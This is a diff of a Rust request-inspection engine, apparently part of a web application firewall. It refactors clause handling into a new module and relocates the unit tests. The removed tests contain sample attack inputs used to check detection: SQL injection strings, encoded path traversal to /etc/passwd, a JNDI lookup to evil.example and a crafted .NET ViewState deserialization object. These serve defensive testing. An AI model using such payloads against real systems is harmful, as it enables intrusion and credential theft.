@@ -19,8 +19,13 @@ use crate::engine::{Engine, Sign, StampInfo};
 use crate::names::{self, Privileges};
 use crate::place::Place;
 use crate::rce::{deserialization, framework};
-use crate::sqli::confirm::could_continue;
 use crate::sqli::is_own_statement;
+
+mod clauses;
+#[cfg(test)]
+mod tests;
+
+use self::clauses::Clause;
 
 /// One attack at one point of a request.
 #[derive(Clone, Debug, PartialEq, Serialize)]
@@ -108,6 +113,7 @@ pub fn inspect(
         privileges: Privileges::default(),
         operator: None,
         listing: None,
+        answers_statements: false,
     };
     let report = walk(parts, limits, &mut inspector);
     inspector.settle_operator(None);
@@ -170,6 +176,8 @@ struct Inspector<'a> {
     operator: Option<Operator>,
     /// An operator that was answered, behind which more names of members may follow.
     listing: Option<Operator>,
+    /// Whether the resource is one that is asked statements.
+    answers_statements: bool,
 }
 
 /// An operator where queries hold such by design: it is one of them if a value to compare with follows.
@@ -177,50 +185,6 @@ struct Operator {
     point: Point,
     name: Vec<u8>,
     sign: Sign,
-}
-
-/// A value that is an attack only if another one continues the clause at its end.
-struct Clause {
-    point: Point,
-    value: Vec<u8>,
-    signs: Vec<Sign>,
-}
-
-/// Looks for a value that could continue the clause of another one.
-struct Continuations<'a> {
-    policy: &'a mut dyn Policy,
-    clauses: &'a [Clause],
-    found: bool,
-}
-
-impl Visitor for Continuations<'_> {
-    fn visit(&mut self, point: &PointPath<'_>, value: &[u8], role: Role) -> ControlFlow<()> {
-        // Fields of the header block are lists by their grammar.
-        let is_argument = matches!(
-            Place::of(point, role),
-            Some(
-                Place::QueryValue
-                    | Place::BodyValue
-                    | Place::CookieValue
-                    | Place::FileContent
-                    | Place::FileName
-                    | Place::Path
-            )
-        );
-        let is_other = || {
-            let point = point.to_point();
-            self.clauses.iter().any(|clause| clause.point != point)
-        };
-        if role != Role::Parsed && is_argument && could_continue(value) && is_other() {
-            self.found = true;
-            return ControlFlow::Break(());
-        }
-        ControlFlow::Continue(())
-    }
-
-    fn parser_allowed(&mut self, point: &PointPath<'_>, parser: Parser) -> bool {
-        self.policy.parser_allowed(point, parser)
-    }
 }
 
 /// Detections in the order of the walk.
@@ -317,6 +281,9 @@ impl Visitor for Inspector<'_> {
             self.report_operator(listing);
         }
         self.policy.value_seen(point, value, role);
+        if point.root_element() == Element::ActionName {
+            self.answers_statements |= names::answers_statements(value);
+        }
         self.privileges.note(point, value, role);
         match judged_place(point, value, bytes, role) {
             Some(Place::Uri) => self.target(point, value),
@@ -332,16 +299,13 @@ impl Visitor for Inspector<'_> {
 }
 
 impl Inspector<'_> {
-    /// Decides about open clauses once all values are known. Almost no request has one, so that a second walk costs less
-    /// than a look at every value on the first.
+    /// Decides about open clauses once all values are known.
     fn settle_clauses(&mut self, parts: &RequestParts<'_>, limits: &Limits) {
         if self.clauses.is_empty() {
             return;
         }
         let clauses = std::mem::take(&mut self.clauses);
-        let mut others = Continuations { policy: &mut *self.policy, clauses: &clauses, found: false };
-        walk(parts, limits, &mut others);
-        if !others.found {
+        if !clauses::are_continued(&clauses, parts, limits, &mut *self.policy) {
             return;
         }
         let (policy, detections) = (&*self.policy, &mut self.detections);
@@ -394,6 +358,9 @@ impl Inspector<'_> {
         }
         if place.is_name() && !self.signs.is_empty() {
             self.defer_operator(point, value);
+        }
+        if self.answers_statements && names::asks_a_statement(point) && is_own_statement(value) {
+            self.signs.retain(|sign| sign.attack_type != AttackType::Sqli);
         }
         if !self.signs.is_empty() {
             if point.ancestors().any(|at| is_path_element(at.last().element())) {
@@ -542,7 +509,9 @@ fn collect(
             continue;
         }
         let by_design = match sign.attack_type {
-            AttackType::Rce => sign.stamp < 3100 && names::runs_by_design(point),
+            AttackType::Rce => {
+                sign.stamp < 3100 && (names::runs_by_design(point) || names::builds_a_package(point, value))
+            }
             AttackType::Ptrav | AttackType::Ssrf => names::runs_by_design(point),
             AttackType::Sqli => names::takes_sql(point) && is_own_statement(value),
             AttackType::Ldapi => names::is_whole_filter(value) && names::takes_filter(point),
@@ -714,184 +683,5 @@ fn body_place(point: &PointPath<'_>, name: bool) -> Place {
         Place::FileContent
     } else {
         Place::BodyValue
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn detections(target: &str, headers: &[(&str, &str)], body: &str) -> Vec<Detection> {
-        let headers: Vec<(&[u8], &[u8])> =
-            headers.iter().map(|(n, v)| (n.as_bytes(), v.as_bytes())).collect();
-        let parts = RequestParts {
-            method: "POST",
-            target: target.as_bytes(),
-            headers: &headers,
-            body: body.as_bytes(),
-            body_truncated: false,
-        };
-        inspect(&Engine::new(), &parts, &Limits::default(), &mut NoPolicy).detections
-    }
-
-    /// `FF 01`, a binary-serialized object (50), its length and the stream.
-    fn view_state(kind: &str) -> String {
-        let mut stream =
-            b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x04\x01\x00\x00\x00"
-                .to_vec();
-        stream.push(u8::try_from(kind.len()).unwrap());
-        stream.extend_from_slice(kind.as_bytes());
-        stream.extend_from_slice(b"\x00\x0b");
-        let mut state = vec![0xff, 0x01, 50, u8::try_from(stream.len()).unwrap()];
-        state.extend_from_slice(&stream);
-        base64(&state)
-    }
-
-    fn base64(bytes: &[u8]) -> String {
-        const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
-        let mut text = String::new();
-        for three in bytes.chunks(3) {
-            let bits =
-                three.iter().fold(0u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - three.len()));
-            for at in 0..=three.len() {
-                text.push(char::from(DIGITS[(bits >> (18 - 6 * at)) as usize & 63]));
-            }
-        }
-        text
-    }
-
-    #[test]
-    fn objects_in_a_view_state_are_judged_by_what_they_make() {
-        let form = |kind| {
-            let body = format!("__VIEWSTATE={}", view_state(kind));
-            detections("/", &[("content-type", "application/x-www-form-urlencoded")], &body)
-        };
-        let list = "System.Collections.Generic.List`1[[System.Int32, mscorlib]]";
-        assert!(form(list).is_empty(), "{:?}", form(list));
-        let found = form("System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]");
-        assert!(found.iter().any(|found| found.subtype == "rce_dotnet_deser"), "{found:?}");
-    }
-
-    #[test]
-    fn a_query_parameter_is_named_with_its_payload() {
-        let found = detections("/search?q=1%27+union+select+password+from+users--&page=2", &[], "");
-        let first = &found[0];
-        assert_eq!(first.attack_type, AttackType::Sqli);
-        assert_eq!(serde_json::to_value(&first.point).unwrap(), serde_json::json!(["get", "q"]));
-        assert!(first.value.contains("union select password"));
-        assert!(first.value[first.span.clone()].contains("union select"), "{first:?}");
-        assert!(first.stamps.windows(2).all(|pair| pair[0] < pair[1]) && !first.stamps.is_empty());
-    }
-
-    #[test]
-    fn an_encoded_climb_shows_in_the_target() {
-        let found = detections("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd", &[], "");
-        assert!(found.iter().any(|d| d.attack_type == AttackType::Ptrav), "{found:?}");
-    }
-
-    #[test]
-    fn segments_that_servers_leave_out_are_climbs() {
-        for target in ["/.;/admin", "/;/admin", "/a/..%09/x", "/a/..%0d/x", "/a/..%0d%0a/x"] {
-            let found = detections(target, &[], "");
-            assert!(found.iter().any(|d| d.attack_type == AttackType::Ptrav), "{target}: {found:?}");
-        }
-        for target in ["/a;v=1/b", "/a/b;jsessionid=1", "/a?b=s/;/,/", "/a.;b/c", "/a/..b/c"] {
-            assert_eq!(detections(target, &[], ""), [], "{target}");
-        }
-    }
-
-    #[test]
-    fn fields_of_fixed_grammar_are_scanned_when_they_break_it() {
-        for name in ["Sec-CH-UA", "DNT", "Host", "If-Modified-Since", "Sec-WebSocket-Key"] {
-            let found = detections("/", &[(name, "${jndi:ldap://evil.example/a}")], "");
-            assert!(found.iter().any(|d| d.attack_type == AttackType::Rce), "{name}: {found:?}");
-        }
-        let hints = "\"Chromium\";v=\"130\", \"Not?A_Brand\";v=\"99\", \"Not(A:Brand\";v=\"8\"";
-        let plain = [
-            ("Sec-CH-UA", hints),
-            ("If-Modified-Since", "Sun, 06 Nov 1994 08:49:37 GMT"),
-            ("Host", "[::1]:80"),
-        ];
-        assert_eq!(detections("/", &plain, ""), []);
-    }
-
-    #[test]
-    fn a_clean_request_has_no_detections() {
-        let body = r#"{"name":"Jane O'Reilly","note":"Rock and roll - 1 or 2 items","site":"https://example.com/a?b=c"}"#;
-        let found =
-            detections("/v1/orders?limit=10&sort=-created", &[("Content-Type", "application/json")], body);
-        assert_eq!(found, []);
-    }
-
-    #[test]
-    fn a_clause_may_go_on_in_another_value() {
-        let is_sqli = |target: &str| {
-            detections(target, &[], "").iter().any(|found| found.attack_type == AttackType::Sqli)
-        };
-        for target in [
-            "/a?a=1'%20union%20select&b=,password%20from%20users--%20-",
-            "/a?b=,password%20from%20users--%20-&a=1'%20union%20select",
-            "/a?a=1'%20union%20select&b=1,2,3",
-            "/a?a=1'%20union%20select&b=,password%20from%20users--%20union%20select",
-            "/?id=1%27%20UNION%20SELECT%201,version()--",
-        ] {
-            assert!(is_sqli(target), "{target}");
-        }
-        for target in ["/?id=1%27%20UNION%20SELECT", "/?q=1%27%20UNION%20SELECT&page=2&sort=-created&lang=en"]
-        {
-            assert!(!is_sqli(target), "{target}");
-        }
-        let found = detections("/a?a=1'%20union%20select&b=1,2", &[], "");
-        assert_eq!(serde_json::to_value(&found[0].point).unwrap(), serde_json::json!(["get", "a"]));
-    }
-
-    struct NoSqli;
-    impl Policy for NoSqli {
-        fn type_disabled(&self, _: &PointPath<'_>, attack_type: AttackType) -> bool {
-            attack_type == AttackType::Sqli
-        }
-    }
-
-    #[test]
-    fn a_disabled_type_is_not_reported() {
-        let parts = RequestParts {
-            method: "GET",
-            target: b"/?q=1'+union+select+password+from+users--",
-            headers: &[],
-            body: b"",
-            body_truncated: false,
-        };
-        let engine = Engine::new();
-        let found = inspect(&engine, &parts, &Limits::default(), &mut NoSqli).detections;
-        assert!(found.iter().all(|d| d.attack_type != AttackType::Sqli));
-    }
-
-    #[test]
-    fn excerpts_keep_the_sign_and_escape_bytes() {
-        let mut value = vec![b'a'; 5000];
-        value.extend_from_slice(b"\xff' or 1=1--");
-        let (text, span) = excerpt(&value, &(5001..5010));
-        assert!(text.contains("\\xff' or 1=1--"));
-        assert!(text.len() <= 4096);
-        assert_eq!(&text[span], "' or 1=1-");
-    }
-
-    #[test]
-    fn spans_name_the_sign_within_the_excerpt() {
-        for (value, span, sign) in [
-            ("a' or 1=1--", 1..9, "' or 1=1"),
-            ("häß' or 1", 5..10, "' or "),
-            ("abc", 0..3, "abc"),
-            ("", 0..0, ""),
-        ] {
-            let (text, span) = excerpt(value.as_bytes(), &span);
-            assert_eq!(&text[span], sign, "{value}");
-        }
-        // Within a character: the whole of it.
-        let (text, span) = excerpt("aäb".as_bytes(), &(2..3));
-        assert_eq!(&text[span], "ä");
-        let long = format!("{}' or 1=1-- {}", "x".repeat(3000), "y".repeat(3000));
-        let (text, span) = excerpt(long.as_bytes(), &(3000..3008));
-        assert_eq!(&text[span], "' or 1=1");
     }
 }
